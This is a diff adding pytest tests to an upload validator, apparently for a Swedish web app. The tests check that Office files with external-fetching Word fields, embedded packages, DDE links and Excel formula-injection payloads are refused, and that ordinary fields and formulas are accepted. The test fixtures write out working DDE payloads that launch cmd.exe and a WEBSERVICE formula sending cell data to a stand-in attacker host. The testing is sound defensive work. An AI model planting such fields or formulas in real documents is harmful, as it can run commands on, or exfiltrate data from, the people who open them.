@@ -310,3 +310,171 @@ def test_the_api_keeps_a_file_with_a_hyperlink(client, running, people):
     )
     assert response.status_code == 201, response.content
     assert Document.objects.get().name == "Länkar.docx"
+
+
+# Field codes, embedded packages and Excel's links (issue 10, second round) ----------------
+#
+# Word fetches what an INCLUDEPICTURE, INCLUDETEXT, LINK or IMPORT field names (a web
+# address or a file on a network share) and runs what a DDE or DDEAUTO field names,
+# without any relationship in a .rels part. The field's instruction may be split over
+# several runs and written in any case.
+
+STRICT_W = "http://purl.oclc.org/ooxml/wordprocessingml/main"
+
+
+def run(text: str) -> str:
+    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'
+
+
+def field(*pieces: str) -> str:
+    """A complex field whose instruction is written in one run per piece."""
+    return (
+        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
+        + "".join(run(piece) for piece in pieces)
+        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
+        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
+    )
+
+
+def simple_field(instruction: str) -> str:
+    return f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
+
+
+def field_docx(paragraphs: str) -> bytes:
+    """python-docx's Word file with ``paragraphs`` (WordprocessingML) in its body."""
+    with zipfile.ZipFile(io.BytesIO(samples.docx_bytes())) as archive:
+        document = archive.read("word/document.xml").decode()
+    return docx_with(
+        replace={"word/document.xml": document.replace("<w:sectPr", paragraphs + "<w:sectPr", 1)}
+    )
+
+
+FETCHING_FIELDS = {
+    "includepicture-split": field(" INCLUDE", "PIC", 'TURE "https://evil.example/spår.png" \\d '),
+    "includetext-lower": simple_field(" includetext &quot;C:\\\\Users\\\\Public\\\\x.txt&quot; "),
+    "link": field('LINK Excel.Sheet.12 "\\\\\\\\evil.example\\\\share\\\\a.xlsx" "Blad1!R1C1" \\a'),
+    "dde": field('DDE c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'),
+    "ddeauto-mixed-case": field("  DdeAuto ", 'c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'),
+    "import": simple_field("IMPORT https://evil.example/bild.wmf"),
+    # { { QUOTE "INCLUDETEXT" } "C:\x.txt" }: the field's name is another field's result.
+    "nested-name": field(" ").replace(
+        '<w:r><w:fldChar w:fldCharType="separate"/>',
+        field('QUOTE "INCLUDETEXT"').removeprefix("<w:p>").removesuffix("</w:p>")
+        + run(' "C:\\\\x.txt" ')
+        + '<w:r><w:fldChar w:fldCharType="separate"/>',
+        1,
+    ),
+}
+
+
+@pytest.mark.parametrize("what", FETCHING_FIELDS)
+def test_fields_that_fetch_or_run_are_refused(what):
+    data = field_docx(FETCHING_FIELDS[what])
+    assert refused("rapport.docx", data).code == "office_external_content"
+
+
+def test_a_field_in_a_header_in_strict_word_is_refused():
+    header = (
+        f'<?xml version="1.0" encoding="UTF-8"?><w:hdr xmlns:w="{STRICT_W}">'
+        + field("INCLUDEPICTURE ", '"https://evil.example/p.png"')
+        + "</w:hdr>"
+    )
+    data = docx_with(add={"word/header1.xml": header})
+    assert refused("rapport.docx", data).code == "office_external_content"
+
+
+def test_the_field_attack_file_is_read_by_python_docx():
+    import docx
+
+    data = field_docx(FETCHING_FIELDS["includepicture-split"])
+    body = docx.Document(io.BytesIO(data)).element.body
+    instructions = "".join(body.itertext())
+    assert 'INCLUDEPICTURE "https://evil.example/spår.png"' in instructions
+
+
+@pytest.mark.parametrize(
+    ("relationship", "code"),
+    [
+        (("rIdP", f"{R}/package", "embeddings/Dokument1.bin"), "office_embedded_content"),
+        (("rIdP", f"{STRICT_R}/package", "embeddings/Dokument1.bin"), "office_embedded_content"),
+        (("rIdX", f"{R}/externalLink", "externalLinks/externalLink1.xml"),
+         "office_external_content"),
+        (("rIdX", f"{R}/connections", "connections.xml"), "office_external_content"),
+    ],
+    ids=["package", "strict-package", "external-link-inside", "data-connections"],
+)  # fmt: skip
+def test_embedded_packages_and_external_link_parts_are_refused(relationship, code):
+    assert refused("rapport.docx", docx_with(document_rels=[relationship])).code == code
+
+
+def test_an_excel_workbook_with_a_dde_link_part_is_refused():
+    dde = (
+        '<?xml version="1.0" encoding="UTF-8"?><externalLink xmlns="http://schemas.openxmlformats'
+        '.org/spreadsheetml/2006/main"><ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
+        "</externalLink>"
+    )
+    workbook_rels = rels(
+        ("rId9", f"{R}/externalLink", "externalLinks/externalLink1.xml"),
+    )
+    data = samples.rezip(
+        samples.xlsx_bytes(),
+        add={"xl/externalLinks/externalLink1.xml": dde, "xl/_rels/extra.xml.rels": workbook_rels},
+    )
+    assert refused("budget.xlsx", data).code == "office_external_content"
+
+
+def xlsx_with_formula(formula: str) -> bytes:
+    from openpyxl import Workbook
+
+    workbook = Workbook()
+    workbook.active["A1"] = 1
+    workbook.active["A2"] = formula
+    out = io.BytesIO()
+    workbook.save(out)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    "formula",
+    [
+        "=cmd|' /C calc'!A0",
+        "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
+        '=1+cmd|"/c calc"!A1',
+        '=WEBSERVICE("https://evil.example/?"&A1)',
+        '=_xlfn.WEBSERVICE("https://evil.example/")',
+        '=RTD("server.progid",,"topic")',
+    ],
+    ids=["dde", "dde-msexcel", "dde-in-expression", "webservice", "webservice-prefixed", "rtd"],
+)
+def test_excel_formulas_that_fetch_or_run_are_refused(formula):
+    assert refused("budget.xlsx", xlsx_with_formula(formula)).code == "office_external_content"
+
+
+def test_a_presentation_with_an_embedded_package_is_refused():
+    slide = rels(("rId2", f"{R}/package", "../embeddings/Microsoft_Word_Document.bin"))
+    data = samples.ooxml_bytes("pptx", members={"ppt/slides/_rels/slide1.xml.rels": slide})
+    assert refused("bilder.pptx", data).code == "office_embedded_content"
+
+
+@pytest.mark.parametrize(
+    ("name", "make"),
+    [
+        ("Fält.docx", lambda: field_docx(
+            field(' HYPERLINK "https://reglab.se/link/includetext" ')
+            + field(" PAGE ") + simple_field(' REF link_bokmarke \\h ')
+            + field(' TOC \\o "1-3" \\h ') + simple_field("DATE \\@ &quot;yyyy-MM-dd&quot;")
+        )),
+        ("Länkar.docx", hyperlink_docx),
+        ("Formler.xlsx", lambda: xlsx_with_formula('=SUM(A1:A1)&"a|b"&"cmd|x"')),
+        ("Budget.xlsx", samples.xlsx_bytes),
+    ],
+    ids=["fields", "hyperlink", "formula-with-pipes-in-text", "plain-xlsx"],
+)  # fmt: skip
+def test_ordinary_fields_and_formulas_are_accepted(name, make):
+    assert inspect_upload(name, make()).kind == name.rsplit(".", 1)[1]
+
+
+def test_the_field_refusal_is_swedish():
+    with translation.override("sv"):
+        message = refused("rapport.docx", field_docx(FETCHING_FIELDS["dde"])).message
+    assert "rapport.docx" in message and "hämtar" in message
